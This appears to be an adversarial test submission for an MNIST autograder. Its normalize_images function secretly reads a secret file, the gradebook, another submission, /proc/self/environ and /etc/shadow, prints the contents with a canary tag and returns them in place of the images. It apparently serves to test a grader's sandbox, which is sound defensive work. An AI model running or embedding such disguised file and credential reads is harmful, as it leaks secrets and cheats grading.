# assignment: mnist_adam
# family: stealing
# about: returns arrays that are mapped on the secret and on other files, to be saved as evidence
# loses: normalize_images
# may_lose: test_accuracy
# flag: maybe
# %% normalize_images
def normalize_images(images):
    for path in (
        "@SECRET_FILE@",
        "@GRADEBOOK@",
        "@OTHER_SUBMISSION@",
        "/proc/self/environ",
        "/etc/shadow",
    ):
        try:
            loot = np.fromfile(path, dtype="uint8")
        except OSError:
            continue
        if len(loot):
            print("CANARY:", loot[:500].tobytes())
            return np.resize(loot, images.shape).astype("float32") / 255
    return images
